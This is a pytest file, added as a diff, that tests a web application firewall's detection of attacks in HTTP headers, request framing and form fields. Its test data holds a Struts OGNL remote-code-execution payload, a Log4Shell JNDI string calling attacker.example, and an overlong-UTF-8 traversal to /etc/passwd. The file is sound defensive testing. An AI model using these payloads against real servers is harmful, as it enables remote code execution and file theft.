@@ -1,0 +1,158 @@
+"""What extraction looks at: headers an attacker controls, request framing, percent-decoded form fields."""
+
+from __future__ import annotations
+
+import pytest
+
+from apiward.core import HttpRequest
+from apiward.detect import Engine, Inspection, Limits
+from apiward.detect._extract import extract
+
+PL1 = Engine(paranoia=1)
+PL2 = Engine(paranoia=2)
+
+S2_045 = (
+    "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
+    "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
+    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))))."
+    "(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#process=#p.start())}"
+)
+LOG4SHELL = "${jndi:ldap://attacker.example/a}"
+BROWSER_HEADERS = (
+    ("Host", "api.example.com:8443"),
+    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
+    ("Accept-Encoding", "gzip, deflate, br, zstd"),
+    ("Connection", "keep-alive"),
+    ("Cache-Control", "max-age=0, no-cache"),
+    ("If-None-Match", 'W/"33a64df551425fcc55e4d42a148795d9f25f89d4"'),
+    ("If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT"),
+    ("TE", "trailers"),
+    ("sec-ch-ua", '"Chromium";v="118", "Not=A?Brand";v="99", "Not(A:Brand";v="24"'),
+    ("sec-ch-ua-platform", '"Windows"'),
+)
+
+
+def inspect(engine: Engine = PL1, method: str = "GET", body: bytes = b"", **headers: str) -> Inspection:
+    pairs = tuple((name.replace("_", "-"), value) for name, value in headers.items())
+    return engine.inspect(HttpRequest(method=method, path="/items", headers=pairs, body=body))
+
+
+def rules(result: Inspection) -> set[str]:
+    return {m.rule_id for m in result.matches}
+
+
+def test_struts_ognl_in_content_type_is_seen() -> None:
+    result = inspect(method="POST", Content_Type=S2_045)
+    assert result.is_attack
+    assert {m.location for m in result.matches} == {"header:content-type"}
+
+
+@pytest.mark.parametrize(
+    "content_type",
+    ['application/x-www-form-urlencoded;boundary="application/json"', "text/plain; charset=utf-8; charset=utf-7"],
+)
+def test_content_type_confusion_fires(content_type: str) -> None:
+    assert "PROTO-014" in rules(inspect(method="POST", body=b"a=1", Content_Type=content_type))
+
+
+@pytest.mark.parametrize(
+    "content_type",
+    [
+        "application/json; charset=utf-8",
+        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
+        "text/xml",
+        "application/vnd.api+json",
+        "application/x-www-form-urlencoded",
+    ],
+)
+@pytest.mark.parametrize("engine", [PL1, PL2], ids=["PL1", "PL2"])
+def test_ordinary_content_types_fire_nothing(engine: Engine, content_type: str) -> None:
+    assert not inspect(engine, method="POST", Content_Type=content_type).matches
+
+
+@pytest.mark.parametrize("header", ["TE", "Accept", "Cache-Control", "Host", "If-Modified-Since", "Connection"])
+def test_log4shell_in_a_structural_header_is_seen(header: str) -> None:
+    result = PL1.inspect(HttpRequest(method="GET", path="/items", headers=((header, LOG4SHELL),)))
+    assert result.is_attack
+    assert {m.location for m in result.matches} == {f"header:{header.lower()}"}
+
+
+@pytest.mark.parametrize("engine", [PL1, PL2], ids=["PL1", "PL2"])
+def test_ordinary_structural_headers_are_not_inspected(engine: Engine) -> None:
+    request = HttpRequest(method="GET", path="/items", headers=BROWSER_HEADERS)
+    assert not engine.inspect(request).matches
+    assert not [v for v in extract(request, Limits()).values if v.location.startswith("header:")]
+
+
+def test_credentials_and_cookie_header_stay_out_of_header_values() -> None:
+    request = HttpRequest(
+        method="GET", path="/items", headers=(("Authorization", "Bearer ${jndi:x}"), ("Cookie", "a=1; b=<x>"))
+    )
+    locations = [v.location for v in extract(request, Limits()).values if v.location != "path"]
+    assert locations == ["cookie:a", "cookie:a", "cookie:b", "cookie:b"]
+
+
+@pytest.mark.parametrize(
+    ("method", "body", "headers", "rule"),
+    [
+        ("GET", b"a=1&b=2", {"Content_Length": "7"}, "PROTO-016"),
+        ("HEAD", b"", {"Content_Length": "12"}, "PROTO-016"),
+        ("GET", b"", {"Transfer_Encoding": "chunked"}, "PROTO-017"),
+        ("HEAD", b"0\r\n\r\n", {"Transfer_Encoding": "chunked"}, "PROTO-017"),
+        ("POST", b"a", {"Content_Length": "0x1"}, "PROTO-018"),
+        ("POST", b"a", {"Content_Length": "+1"}, "PROTO-018"),
+    ],
+)
+def test_framing_anomalies_fire_at_pl1(method: str, body: bytes, headers: dict[str, str], rule: str) -> None:
+    result = inspect(PL1, method=method, body=body, **headers)
+    assert result.is_attack
+    assert rule in rules(result)
+
+
+@pytest.mark.parametrize(
+    ("method", "body", "headers"),
+    [
+        ("GET", b"", {"Content_Length": "0"}),
+        ("GET", b"", {"Content_Length": "00"}),
+        ("GET", b"", {}),
+        ("POST", b"a=1", {"Content_Length": "3"}),
+        ("POST", b"4\r\na=12\r\n0\r\n\r\n", {"Transfer_Encoding": "chunked"}),
+        ("PUT", b"{}", {"Content_Length": " 2 "}),
+    ],
+)
+@pytest.mark.parametrize("engine", [PL1, PL2], ids=["PL1", "PL2"])
+def test_ordinary_framing_fires_nothing(engine: Engine, method: str, body: bytes, headers: dict[str, str]) -> None:
+    assert not inspect(engine, method=method, body=body, **headers).matches
+
+
+def test_get_body_without_framing_headers_is_left_to_pl2() -> None:
+    assert not inspect(PL1, body=b"a=1").matches
+    assert rules(inspect(PL2, body=b"a=1")) == {"PROTO-019"}
+
+
+OVERLONG = b"file=..%c0%af..%c0%afetc%c0%afpasswd"
+
+
+def test_overlong_utf8_traversal_in_a_form_field_is_seen() -> None:
+    result = inspect(method="POST", body=OVERLONG, Content_Type="application/x-www-form-urlencoded")
+    assert result.is_attack
+    assert "body:file" in {m.location for m in result.matches}
+    request = HttpRequest(method="GET", path="/items", query=OVERLONG.decode())
+    assert "query:file" in {m.location for m in PL1.inspect(request).matches}
+
+
+def test_form_fields_decode_as_before() -> None:
+    request = HttpRequest(
+        method="POST",
+        path="/items",
+        headers=(("Content-Type", "application/x-www-form-urlencoded"),),
+        body=b"name=J%C3%BCrgen+M%C3%BCller&bad=%ff&plain=a+b&empty=&=x&flag",
+    )
+    values = [(v.location, v.text) for v in extract(request, Limits()).values if v.kind == "value"]
+    assert values == [
+        ("body:name", "Jürgen Müller"),
+        ("body:bad", "\ufffd"),
+        ("body:plain", "a b"),
+        ("body:", "x"),
+    ]
+    assert not PL1.inspect(request).matches
